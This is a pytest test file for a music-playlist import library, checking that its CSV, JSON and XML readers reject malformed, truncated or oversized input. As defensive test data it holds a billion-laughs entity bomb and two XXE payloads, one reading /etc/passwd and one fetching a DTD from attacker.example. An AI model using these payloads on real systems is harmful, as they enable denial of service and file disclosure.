"""Bad input: each case gets a clear FormatError (naming the line where there is one) or a
warning, and every limit stops a reader at the first row past it."""

from __future__ import annotations

import io
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.formats.helpers import DATA, PROPERTY, data
from transfer.formats import FORMATS, FormatError, Limits, read_any, read_csv
from transfer.formats.readers.itunes import read_itunes
from transfer.formats.readers.xspf import read_xspf


@pytest.mark.parametrize("format_id", sorted(FORMATS))
@pytest.mark.parametrize("content", [b"", b"   \n\r\n  ", b"\xef\xbb\xbf"])
def test_empty_files(format_id: str, content: bytes) -> None:
    with pytest.raises(FormatError, match="empty"):
        read_any(content, "x", format=format_id)


@pytest.mark.parametrize(
    ("content", "line", "message"),
    [
        (b'{"playlists": [{"name": "x", "items": [', 1, "ends before it is complete"),
        (b'{\n  "playlists": [\n    {"name": "x",,}\n  ]\n}', 3, "not valid JSON"),
        (b'{"playlist": {"title": "x", "track": [{"title": "a"}', 1, "ends before it is complete"),
    ],
)
def test_malformed_or_truncated_json(content: bytes, line: int, message: str) -> None:
    with pytest.raises(FormatError, match=message) as info:
        read_any(content, "x.json")
    assert info.value.line == line


def test_truncated_json_from_a_real_export() -> None:
    whole = data("Playlist1.json")
    with pytest.raises(FormatError, match="truncated") as info:
        read_any(whole[: len(whole) // 2], "Playlist1.json")
    assert info.value.line is not None


def test_truncated_xml() -> None:
    whole = data("Library.xml")
    with pytest.raises(FormatError, match="ends before it is complete") as info:
        read_any(whole[: len(whole) // 2], "Library.xml")
    assert info.value.line is not None
    assert info.value.line > 40


def test_malformed_xml_names_the_line() -> None:
    xml = b'<playlist xmlns="http://xspf.org/ns/0/">\n<trackList>\n<track></trackList>\n</playlist>'
    with pytest.raises(FormatError, match="malformed: mismatched tag") as info:
        read_xspf(xml)
    assert info.value.line == 3


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<playlist xmlns="http://xspf.org/ns/0/"><title>&lol3;</title></playlist>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE plist [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<plist version="1.0"><dict><key>x</key><string>&xxe;</string></dict></plist>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE playlist [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<playlist xmlns="http://xspf.org/ns/0/"/>"""


@pytest.mark.parametrize("content", [BILLION_LAUGHS, XXE, XXE_PARAMETER])
def test_xml_entities_are_refused(content: bytes) -> None:
    with pytest.raises(FormatError, match="declares an entity") as info:
        read_any(content, "evil.xml")
    assert info.value.line is not None


def test_external_dtd_is_never_fetched(tmp_path: object) -> None:
    """An external DTD (as on every Library.xml) is allowed but not read: if it were, its
    entity declaration would be refused, and the entity below would expand."""
    from pathlib import Path

    dtd = Path(str(tmp_path)) / "evil.dtd"
    dtd.write_text('<!ENTITY secret "leaked">')
    xml = (
        f'<?xml version="1.0"?>\n<!DOCTYPE playlist SYSTEM "{dtd.as_uri()}">\n'
        '<playlist xmlns="http://xspf.org/ns/0/"><trackList><track><title>a &secret; b'
        "</title></track></trackList></playlist>"
    ).encode()
    result = read_xspf(xml)
    assert "leaked" not in result.playlists[0].tracks[0].title


def test_wrong_xml_root() -> None:
    with pytest.raises(FormatError, match="not an iTunes library: its root element is <dict>"):
        read_itunes(b"<dict><key>a</key></dict>")


@pytest.mark.parametrize(
    ("content", "line", "message"),
    [
        (b'Title,Artist\nA,B\n"C,D\nE,F\n', 3, "never closed; the file may be truncated"),
    ],
)
def test_malformed_csv_names_the_row(content: bytes, line: int, message: str) -> None:
    with pytest.raises(FormatError, match=message) as info:
        read_any(content, "x.csv")
    assert info.value.line == line


def test_an_unescaped_quote_is_recovered_with_a_warning_on_its_line() -> None:
    rows = [b"Title,Artist"] + [b"Song %d,Artist %d" % (i, i) for i in range(6000)]
    rows[3001] = b'"Shame","Evelyn "Champagne" King"'
    rows[4000] = b'A,"B"x'
    result = read_any(b"\r\n".join(rows) + b"\r\n", "x.csv")
    assert result.track_count == 6000
    tracks = result.playlists[0].tracks
    assert (tracks[3000].title, tracks[3000].artists) == ("Shame", ('Evelyn "Champagne" King',))
    assert tracks[3999].artists == ('B"x',)
    assert [(p.line, "not doubled" in p.message) for p in result.problems] == [
        (3002, True),
        (4001, True),
    ]


def test_truncated_csv_row_is_a_warning() -> None:
    whole = data("exportify.csv")
    cut = whole[: whole.rindex(b'"Earfquake"') + 20]
    cut = cut[: cut.rindex(b'",') + 1] + b"\n"
    result = read_any(cut, "exportify.csv")
    assert result.track_count == 5
    assert result.problems[0].line == 6
    assert "fewer than the columns read" in result.problems[0].message


def test_rows_without_title_are_skipped_with_their_line() -> None:
    result = read_csv(b"Title,Artist,Duration\nA,B,3:00\n,C,\nD,E,forever\n")
    assert [t.title for t in result.playlists[0].tracks] == ["A", "D"]
    assert [str(p) for p in result.problems] == [
        "line 3: The row has no title, ISRC or id; it was skipped.",
        "line 4: The duration 'forever' is not milliseconds, seconds, m:ss or h:mm:ss and was "
        "left out.",
    ]


def test_unrecognised_csv_header() -> None:
    with pytest.raises(FormatError, match="choose the columns by hand") as info:
        read_csv(b"Foo,Bar\n1,2\n")
    assert info.value.line == 1


def test_too_many_bytes() -> None:
    with pytest.raises(FormatError, match="largest file accepted is 100 bytes"):
        read_any(data("exportify.csv"), "exportify.csv", limits=Limits(max_bytes=100))


@pytest.mark.parametrize(
    "name",
    [
        "exportify.csv",
        "Playlist1.json",
        "Library.xml",
        "tunemymusic.csv",
        "playlist.m3u8",
        "playlist.xspf",
        "playlist.jspf",
        "playlist.txt",
        "Road Trip-videos.csv",
        "takeout_legacy.csv",
        "spotify_api_excerpt.json",
    ],
)
def test_track_limit_in_every_reader(name: str) -> None:
    with pytest.raises(FormatError, match="more than 1 tracks"):
        read_any(data(name), name, limits=Limits(max_tracks=1))


def test_playlist_limit() -> None:
    with pytest.raises(FormatError, match="more than 1 playlists") as info:
        read_any(data("tunemymusic.csv"), "t.csv", limits=Limits(max_playlists=1))
    assert info.value.line == 4


def test_line_length_limit() -> None:
    text = b"Title,Artist\nA,B\n" + b"x" * 200 + b",y\n"
    with pytest.raises(FormatError, match="longer than 100 characters") as info:
        read_any(text, "x.csv", limits=Limits(max_line_length=100))
    assert info.value.line == 3


def test_problem_limit_counts_the_rest() -> None:
    rows = "".join(",artist\n" for _ in range(50))
    result = read_csv(("Title,Artist\nA,B\n" + rows).encode(), limits=Limits(max_problems=5))
    assert len(result.problems) == 6
    assert result.problems[-1].message == "45 more warnings like these were not listed."


MILLION_ROWS = b"Title,Artist,ISRC,Duration (ms)\n" + (
    b"Comfort Eagle,CAKE,USSM10104614,220202\n" * 1_000_000
)


def test_a_million_rows_stop_at_the_default_track_limit() -> None:
    assert len(MILLION_ROWS) < Limits().max_bytes
    with pytest.raises(FormatError, match="more than 100,000 tracks") as info:
        read_any(io.BytesIO(MILLION_ROWS), "big.csv")
    assert info.value.line == 100_002


def test_a_million_rows_are_never_all_parsed() -> None:
    """Streaming: stopping at row 1,002 costs a few MB, not the ~200 MB a million parsed
    rows would take (the input bytes themselves were allocated before tracing began)."""
    tracemalloc.start()
    try:
        with pytest.raises(FormatError, match="more than 1,000 tracks") as info:
            read_any(MILLION_ROWS, "big.csv", limits=Limits(max_tracks=1000))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert info.value.line == 1002
    assert peak < 20 * 1024 * 1024


@pytest.mark.slow
def test_a_million_rows_can_be_allowed() -> None:
    row = b"A,B\n"
    content = b"Title,Artist\n" + row * 1_000_000
    result = read_any(content, "big.csv", limits=Limits(max_tracks=1_000_000))
    assert result.track_count == 1_000_000


SAMPLES = sorted(p.name for p in DATA.iterdir() if p.is_file() and p.name != "README.md")


@given(st.sampled_from(SAMPLES), st.floats(0, 1), st.binary(max_size=8))
@PROPERTY
def test_damaged_samples_give_a_result_or_a_format_error(
    name: str, where: float, garbage: bytes
) -> None:
    """Cut anywhere and with junk appended, a file either reads or says why it cannot:
    never another exception."""
    whole = data(name)
    cut = int(len(whole) * where)
    try:
        read_any(whole[:cut] + garbage, name)
    except FormatError as exc:
        error = exc
    else:
        return
    assert error.message


@given(st.binary(max_size=300), st.sampled_from([None, "x.csv", "x.json", "x.xml", "x.m3u"]))
@PROPERTY
def test_arbitrary_bytes_give_a_result_or_a_format_error(
    content: bytes, filename: str | None
) -> None:
    try:
        read_any(content, filename)
    except FormatError as exc:
        error = exc
    else:
        return
    assert error.message
